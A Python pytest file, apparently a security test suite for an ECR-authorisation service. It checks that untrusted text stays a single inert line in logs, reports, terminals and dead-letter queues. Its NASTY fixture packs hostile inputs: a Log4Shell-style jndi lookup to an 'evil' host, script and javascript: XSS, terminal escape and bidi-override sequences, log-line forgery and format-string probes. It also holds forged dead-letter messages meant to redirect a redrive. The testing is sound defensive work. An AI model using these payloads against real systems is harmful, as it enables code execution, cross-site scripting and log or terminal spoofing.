"""Text of strangers stays text: in logs, reports and dead letters it is one line, and no markup."""

from __future__ import annotations

import html.parser
import io
import json
import logging
import sys
from datetime import datetime, timezone

import pytest
import structlog
from pydantic import SecretStr

from ecrauth import report, screen
from shared import log
from shared.cleanup.notes import CleanupRun, Told
from shared.cloud.credentials import Credentials
from shared.cloud.messages import Messages
from shared.dead_letters import DeadLetters
from shared.lines import one_line
from simulation.wire.system import ACCOUNT_A
from tests.attacks.conftest import access, put, sample

NASTY = (
    'x\n{"level":"info","event":"result_published"}\r\n\x1b[2J\x1b]8;;http://evil\x07link\x9b31m'
    "\u2028\u2029\u0085\u202e\u200b\ufeff\x00\x7f | ` <script>alert(1)</script> "
    "[link=http://evil]here[/link] [a](javascript:alert(1)) ${jndi:ldap://evil} %s {0.__class__}"
)


def test_a_line_of_the_log_is_one_line_whatever_is_in_it(capsys):
    log.configure()
    log.correlate(ticket=NASTY)
    structlog.get_logger().info(NASTY, note=NASTY, deep=[{NASTY: NASTY}])
    try:
        raise RuntimeError(NASTY)
    except RuntimeError:
        structlog.get_logger().exception("failed")
    logging.getLogger("stranger").warning("%s", NASTY)
    structlog.contextvars.clear_contextvars()
    out = capsys.readouterr().out
    lines = out.split("\n")[:-1]
    assert len(lines) == 3
    assert [json.loads(line)["event"] for line in lines] == [NASTY, "failed", "library_log"]
    shown = out.replace("\n", "").replace("\x7f", "")
    assert shown.isascii()
    assert shown.isprintable()


def test_a_refused_message_is_not_repeated_in_the_log(system):
    with log.captured() as lines:
        put(system, {**sample("grant_vpc"), NASTY: NASTY, "requester": NASTY, "ticket": NASTY})
        put(system, {**sample("grant_vpc", request_id="X-2"), "specversion": NASTY})
        put(system, {"wake": NASTY})
        put(system, NASTY.encode())
        system.settle()
    text = json.dumps(lines)
    for part in ("evil", "script", "jndi", "\\u001b", "__class__"):
        assert part not in text
    reasons = [one["reason"] for one in system.dead_letters()]
    assert len(reasons) == 4
    assert all(reason.isprintable() and "evil" not in reason for reason in reasons)


@pytest.mark.parametrize("most", [1, 5, 500])
def test_one_line_is_one_short_visible_line(most):
    line = one_line(NASTY, most)
    assert line.isprintable()
    assert len(line) <= most + 1
    assert one_line("plain", 10) == "plain"
    assert one_line(None, 10) == "None"


NOW = datetime(2026, 1, 1, tzinfo=timezone.utc)


def found():
    run = CleanupRun(
        id="20260101T000000-1",
        started_at=NOW,
        observes="it is the first run",
        outcome="observed",
        ecrs=("ecr-1",),
        pending=(),
        counts={"unreadable": 1},
    )
    return run, [Told(name="unreadable", key="ecr-1", sentence=NASTY)]


def test_a_report_in_markdown_keeps_text_in_its_cell():
    text = report.markdown(*found())
    rows = [line for line in text.splitlines() if line.startswith("| unreadable | `ecr-1`")]
    assert len(rows) == 1
    assert rows[0].count("|") == 4
    cell = rows[0].split("|")[3]
    for mark in ("<", ">", "`", "[", "]"):
        assert mark not in cell
    assert text.replace("\n", "").isprintable()


def test_a_report_in_html_has_no_element_of_a_stranger():
    class Reader(html.parser.HTMLParser):
        def __init__(self):
            super().__init__()
            self.seen = set()

        def handle_starttag(self, tag, attrs):
            self.seen.add(tag)
            assert not {name for name, _ in attrs if name.startswith("on") or name == "href"}

    reader = Reader()
    reader.feed(report.html(*found()))
    assert "script" not in reader.seen
    assert {"table", "td", "code"} <= reader.seen


LETTER = {"queue": "ecr-requests", "reason": "why", "attempt": 1, "message": {"request_id": "X-1"}}


def letters_of(system, queue="ecr-requests-dead"):
    key, secret = system.cloud.identity.root_key(ACCOUNT_A)
    credentials = Credentials(key, SecretStr(secret), SecretStr(""))
    trail = system.built("ecr-authorize").house.trail
    return DeadLetters(Messages(system.local.url, lambda: credentials), queue, trail)


@pytest.mark.parametrize(
    "changes",
    [
        {"reason": NASTY},
        {"reason": ["x"]},
        {"reason": "z" * 50_000},
        {"attempt": "abc"},
        {"attempt": 10**400},
        {"attempt": None},
        {"attempt": [1]},
        {"message": {"request_id": NASTY}},
        {"message": NASTY},
        {"message": None},
        {"queue": NASTY},
    ],
    ids=lambda one: ascii(one)[:24],
)
def test_a_forged_letter_is_shown_and_keeps_no_other_from_being_shown(system, changes):
    put(system, {**LETTER, **changes}, "ecr-requests-dead")
    put(system, LETTER, "ecr-requests-dead")
    found_ = letters_of(system).all()
    assert len(found_) == 2
    for letter in found_:
        assert letter.reason.isprintable()
        assert len(letter.reason) < 1100
        assert letter.attempt >= 1
        assert (letter.request_id or "").isprintable()
        assert letter.queue == "ecr-requests"


def test_a_letter_goes_where_it_came_from_and_nowhere_else(system):
    """Whoever may write to a dead-letter queue cannot have the operator write to another one."""
    forged = {**LETTER, "queue": "ecr-attachments", "message": {"wake": "x"}}
    put(system, forged, "ecr-requests-dead")
    put(system, {**LETTER, "queue": "ticketing-results", "message": "forged"}, "ecr-requests-dead")
    redriven = letters_of(system).redrive(None, "operator")
    assert [letter.queue for letter in redriven] == ["ecr-requests", "ecr-requests"]
    system.settle()
    assert system.results == []
    assert system.dead_letters("ecr-attachments-dead") == []
    assert access(system) == (set(), set())


def test_no_letter_keeps_the_others_from_being_redriven(system):
    """One grows when it is written anew, one has a tag that no topic takes: all of them go."""
    put(
        system,
        json.dumps({**LETTER, "message": {"x": "é" * 20_000}}, ensure_ascii=False).encode(),
        "ecr-requests-dead",
    )
    put(system, {**LETTER, "message": "last"}, "ecr-requests-dead")
    assert len(letters_of(system).redrive(None, "operator")) == 2
    dead = "ecr-answers-dead"
    for outcome in ("x" * 40, "", ["x"], "gr anted", NASTY, "granted"):
        told = json.dumps({"data": {"outcome": outcome}})
        put(system, {"topic": NASTY, "reason": "x", "attempt": 1, "message": told}, dead)
    redriven = letters_of(system, dead).redrive(None, "operator")
    assert {letter.queue for letter in redriven} == {"ecr-results"}
    assert sorted(letter.tag for letter in redriven) == ["granted", *["unknown"] * 5]


class Terminal(io.StringIO):
    """Where an operator looks: what is written is what moves the cursor there."""

    def isatty(self):
        return True


@pytest.mark.parametrize("where", [Terminal, io.StringIO])
@pytest.mark.parametrize(
    "show",
    [
        lambda: screen.line(NASTY),
        lambda: screen.as_json({"reason": NASTY, NASTY: [NASTY, "\U000e0041"]}),
        lambda: screen.table(("a", "reason"), [("x", NASTY), (NASTY, None)]),
    ],
    ids=["line", "json", "table"],
)
def test_a_terminal_shows_a_strangers_text_and_does_nothing_else(monkeypatch, where, show):
    terminal = where()
    monkeypatch.setattr(sys, "stdout", terminal)
    monkeypatch.setenv("COLUMNS", "2000")
    show()
    shown = terminal.getvalue()
    for mark in ("\x1b]", "\x1b[2J", "\x9b", "\x07", "\r", "\u2028", "\u202e", "\x00", "\x7f"):
        assert mark not in shown
    assert "[link=http://evil]here[/link]" in shown


def test_json_that_is_shown_can_be_read_again(monkeypatch):
    terminal = Terminal()
    monkeypatch.setattr(sys, "stdout", terminal)
    screen.as_json({NASTY: "\U000e0041 é 中"})
    assert json.loads(terminal.getvalue()) == {NASTY: "\U000e0041 é 中"}
    assert "é 中" in terminal.getvalue()
